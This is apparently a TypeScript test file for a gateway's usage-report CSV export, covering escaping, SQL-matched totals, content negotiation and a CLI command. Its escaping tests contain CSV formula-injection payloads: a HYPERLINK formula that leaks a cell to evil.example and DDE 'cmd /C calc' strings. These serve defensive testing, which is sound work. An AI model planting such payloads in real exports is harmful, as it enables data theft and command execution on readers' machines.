import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import type { Pool } from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { USAGE_KINDS } from '../../src/contract/usage.ts';
import type { ApiCaller } from '../../src/dashboard/messages.ts';
import { answer } from '../../src/dashboard/routes.ts';
import { CSV_ROWS, textCell, usageCsv } from '../../src/dashboard/usage-csv.ts';
import { silentLog } from '../../src/lib/log.ts';
import { showUsage } from '../../src/serve/show-usage.ts';
import { createRecordStore } from '../../src/store/records.ts';
import { csvTable, parsedCsv } from '../support/csv.ts';
import { idAt } from '../support/ids.ts';
import { startTestPostgres } from '../support/postgres.ts';
import type { TestPostgres } from '../support/postgres.ts';
import { aRecord, TEST_TIME_MS } from '../support/records.ts';

describe('a cell', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...TRIGGERS, '"', ',', '\n', "'", ' ', 'a', 'ü', '😀') }),
  );

  test('any text comes back, and none begins a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const written = rows.map((row) => `x,${row.map(textCell).join(',')}\r\n`).join('');
        const read = parsedCsv(written);
        expect(read.map(([, ...cells]) => cells)).toEqual(
          rows.map((row) => row.map((cell) => (TRIGGERS.some((first) => cell.startsWith(first)) ? `'${cell}` : cell))),
        );
      }),
      { numRuns: 1_000 },
    );
  });

  test.each([
    ['=HYPERLINK("http://evil.example?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""click"")"`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `"'@SUM(1+1)*cmd|"" /C calc""!A0"`],
    ['(loopback)', '(loopback)'],
    ['gpt-5', 'gpt-5'],
    ['', ''],
  ])('%s', (given, written) => {
    expect(textCell(given)).toBe(written);
  });

  test('numbers stay numbers, exact, and money is dollars', () => {
    const numbers = [...Array.from({ length: 18 }, (_, at) => String(at)), '-1'].join(',');
    const line = (cost: string): string => usageCsv(['model'], [['2026-11-01', '-m', numbers, cost]]).split('\r\n')[1]!;
    expect(line('1000000007')).toBe(`2026-11-01,'-m,${numbers},1.000000007`);
    for (const [nanodollars, dollars] of [
      ['0', '0.000000000'],
      ['5', '0.000000005'],
      ['-5', '-0.000000005'],
      ['12345678901234567890123', '12345678901234.567890123'],
    ]) {
      expect(line(nanodollars!).split(',').at(-1)).toBe(dollars);
    }
  });
});

let postgres: TestPostgres;
let pool: Pool;
const HOUR = 3_600_000;
const clock = { nowMs: () => TEST_TIME_MS + HOUR / 4 };
const bob = { login: 'bob@example.com', role: 'user', readCaptures: false, filterableHeaders: [] } as const;
const admin = { login: 'root@example.com', role: 'admin', readCaptures: true, filterableHeaders: [] } as const;
const HOSTILE = '=cmd|\' /C calc\'!A0,"x"\n\u202e\ttail';
const MODELS = [HOSTILE, 'gpt-5', '模型, "eins"'];

/** Three days, an hour apart. */
const records = Array.from({ length: 60 }, (_, index) => {
  const received_at = TEST_TIME_MS - (59 - index) * HOUR;
  return aRecord({
    received_at,
    id: idAt(received_at),
    login: index % 4 === 0 ? 'bob@example.com' : '+alice@example.com',
    groups: index % 4 === 0 ? ['group:ops', 'group:dev'] : [],
    model: MODELS[index % 3]!,
    status: index % 7 === 0 ? 503 : 200,
    cost_nanodollars: index % 10 === 0 ? null : String(1_000_000_007 * (index + 1)),
  });
});

async function ask(
  query: string,
  { caller = admin, accept, at = pool }: { caller?: ApiCaller; accept?: string; at?: Pool } = {},
): Promise<{ status: number; headers: Map<string, string>; text: string }> {
  const { status, headers, body } = await answer(
    { pool: at, clock, log: silentLog },
    { method: 'GET', path: '/api/usage', query, caller, ...(accept === undefined ? {} : { accept }) },
  );
  return { status, headers: new Map(headers), text: String(body) };
}

beforeAll(async () => {
  postgres = await startTestPostgres('usage-csv');
  ({ pool } = await postgres.migrated());
  expect(await createRecordStore(pool, clock).store(records)).toEqual({ inserted: 60, dead: 0 });
});
afterAll(async () => {
  await postgres.stop();
});

const ALL = 'from=2026-11-01&to=2026-12-01';
/** What a spreadsheet shows of a text. */
const inert = (text: string): string => (/^[=+]/.test(text) ? `'${text}` : text);
const nanodollars = (dollars: string): bigint => BigInt(dollars.replace('.', ''));

describe('GET /api/usage as CSV', () => {
  test('a row for each user, model and day, of which each sum is that of SQL', async () => {
    const { status, headers, text } = await ask(`format=csv&${ALL}`);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe('attachment; filename="aperture-usage-2026-11-01-2026-12-01.csv"');
    const found = csvTable(text);
    expect(parsedCsv(text)[0]).toEqual([
      ...['time', 'login', 'model', 'requests', 'refused', 'errors', 'usage_absent', 'usage_partial'],
      ...['usage_estimated', 'cost_unknown', 'request_bytes', 'response_bytes', ...USAGE_KINDS, 'cost_dollars'],
    ]);
    const { rows } = await pool.query<Record<string, string>>(
      `SELECT (received_at AT TIME ZONE 'UTC')::date::text AS time, login, model, count(*) AS requests,
              count(*) FILTER (WHERE status >= 400) AS errors, sum(cache_read) AS cache_read, sum(output) AS output, sum(response_bytes) AS response_bytes,
              count(*) FILTER (WHERE cost_nanodollars IS NULL) AS cost_unknown,
              coalesce(sum(cost_nanodollars), 0) AS nanodollars
         FROM aperture.records GROUP BY 1, 2, 3 ORDER BY 1, 2, 3`,
    );
    expect(rows.length).toBeGreaterThan(15);
    expect(
      found.map(
        ({ time, login, model, requests, errors, cache_read, output, response_bytes, cost_unknown, cost_dollars }) => {
          const counts = { requests, errors, cache_read, output, response_bytes, cost_unknown };
          return { time, login, model, ...counts, nanodollars: nanodollars(cost_dollars!).toString() };
        },
      ),
    ).toEqual(rows.map((row) => ({ ...row, login: inert(row['login']!), model: inert(row['model']!) })));
    expect(text).not.toMatch(/(?:^|,|\n)"?[=+@\t]/);
  });

  test.each(['login', 'group', 'node', 'model', 'provider', 'agent', 'api', 'status'])(
    'grouped by %s it has the sums of the JSON',
    async (group) => {
      for (const interval of ['day', 'hour']) {
        const csv = csvTable((await ask(`format=csv&${ALL}&group=${group}&interval=${interval}`)).text);
        const json: { items: Record<string, unknown>[] } = JSON.parse(
          (await ask(`${ALL}&group=${group}&interval=${interval}`)).text,
        );
        const sums = json.items.map((item) => {
          const { usage, cost_nanodollars, time, [group]: grouped, ...counts } = item;
          return {
            ...(counts as Record<string, unknown>),
            ...(usage as Record<string, unknown>),
            [group]: inert(String(grouped)),
            time: String(time).slice(0, interval === 'day' ? 10 : 13),
            cost: String(cost_nanodollars),
          };
        });
        const told = csv.map(({ cost_dollars, time, ...row }) => {
          const numbers = Object.entries(row).map(([name, cell]): [string, string | number] => {
            return [name, name === group ? cell : Number(cell)];
          });
          const cost = nanodollars(cost_dollars!).toString();
          return { ...Object.fromEntries(numbers), time: time!.slice(0, interval === 'day' ? 10 : 13), cost };
        });
        expect(told).toEqual(sums);
        expect(csv[0]!['time']).toMatch(interval === 'day' ? /^\d{4}-\d\d-\d\d$/ : /^\d{4}-\d\d-\d\dT\d\d:00:00Z$/);
      }
    },
  );

  test('users get their own rows only', async () => {
    const found = csvTable((await ask(`format=csv&${ALL}`, { caller: bob })).text);
    expect(new Set(found.map(({ login }) => login))).toEqual(new Set(['bob@example.com']));
    expect(found.reduce((sum, { requests }) => sum + Number(requests), 0)).toBe(15);
  });

  test('without a range: the last day, in whole hours; without rows: the head alone', async () => {
    const found = csvTable((await ask('format=csv&group=node')).text);
    expect(found.map(({ time, requests }) => [time, requests])).toEqual([
      ['2026-11-22', '14'],
      ['2026-11-23', '11'],
    ]);
    const { status, text } = await ask('format=csv&from=2020-01-01&to=2020-02-01');
    expect([status, parsedCsv(text).length]).toEqual([200, 1]);
  });

  test.each([
    ['text/csv', '', 'text/csv'],
    ['text/html, text/csv;q=0.9', '', 'text/csv'],
    ['text/csv, application/json', '', 'application/json'],
    ['text/csv;q=0', '', 'application/json'],
    ['*/*', '', 'application/json'],
    [undefined, '', 'application/json'],
    ['text/csv', '&format=json', 'application/json'],
    ['application/json', '&format=csv', 'text/csv'],
  ])('accept %s%s is answered as %s', async (accept, format, type) => {
    const { headers } = await ask(`${ALL}${format}`, accept === undefined ? {} : { accept });
    expect(headers.get('content-type')?.split(';')[0]).toBe(type);
  });

  test.each([
    ['format=xml', 'format'],
    ['format=csv&group=team', 'group'],
    ['format=csv&group=model,model', 'group'],
    ['format=csv&group=model,', 'group'],
    ['group=model,login', 'group'],
    ['format=csv&interval=week', 'interval'],
    ['format=csv&session=x', 'session'],
    ['format=csv&status=ok', 'status'],
    ['api=soap', 'api'],
  ])('?%s is a 400 that names the parameter', async (query, name) => {
    const { status, text } = await ask(query);
    expect([status, JSON.parse(text)]).toEqual([
      400,
      { code: 'gateway_bad_parameter', error: expect.stringContaining(name) },
    ]);
  });

  test('numbers beyond those of JavaScript are exact, and what is too long is refused, never cut', async () => {
    const { pool: other } = await postgres.migrated();
    const insert = (from: number, to: number): Promise<unknown> =>
      other.query(
        `INSERT INTO aperture.rollup_day
         SELECT '2026-11-05Z', sha256(n::text::bytea), 'u' || n, 'n', '{}', 'm', 'p', 'a', 'api', 200,
                1, 0, 0, 0, 0, 0, 9007199254740993, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 12345678901234567890123, 1, 1
           FROM generate_series($1::int, $2::int) AS n`,
        [from, to],
      );
    await insert(1, CSV_ROWS);
    const whole = await ask(`format=csv&${ALL}&group=login`, { at: other });
    expect(whole.status).toBe(200);
    const lines = whole.text.split('\r\n');
    expect(lines).toHaveLength(1 + CSV_ROWS + 1);
    expect(
      csvTable(
        lines
          .slice(0, 2)
          .map((line) => `${line}\r\n`)
          .join(''),
      )[0],
    ).toMatchObject({ input_uncached: '9007199254740993', cost_dollars: '12345678901234.567890123' });
    await insert(CSV_ROWS + 1, CSV_ROWS + 1);
    const { status, text } = await ask(`format=csv&${ALL}&group=login`, { at: other });
    expect([status, text]).toEqual([400, expect.stringContaining('more than 50000 rows')]);
    expect((await ask(`format=csv&${ALL}&group=api`, { at: other })).status).toBe(200);
  });
});

describe('aperture usage --csv', () => {
  let server: Server;
  let url: string;
  beforeAll(async () => {
    server = createServer((request, response) => {
      const [, query = ''] = (request.url ?? '').split('?');
      void ask(query).then(({ status, headers, text }) => response.writeHead(status, [...headers].flat()).end(text));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => server.close());

  async function shown(options: Record<string, string>): Promise<{ code: number; out: string; error: string }> {
    const written = { out: '', error: '' };
    const code = await showUsage(
      { url, csv: true, ...options },
      { write: (text) => void (written.out += text), complain: (text) => void (written.error += text) },
    );
    return { code, ...written };
  }

  test('prints what the gateway answers, byte for byte', async () => {
    const range = { from: '2026-11-01', to: '2026-12-01' };
    const expected = await ask(`format=csv&${ALL}`);
    expect(await shown(range)).toEqual({ code: 0, out: expected.text, error: '' });
    const { out } = await shown({ ...range, group: 'api,status' });
    expect(parsedCsv(out)[0]!.slice(0, 3)).toEqual(['time', 'api', 'status']);
  });

  test('a refusal goes to the terminal, and not into the file', async () => {
    expect(await shown({ group: 'team' })).toEqual({ code: 1, out: '', error: expect.stringContaining('group') });
  });
});
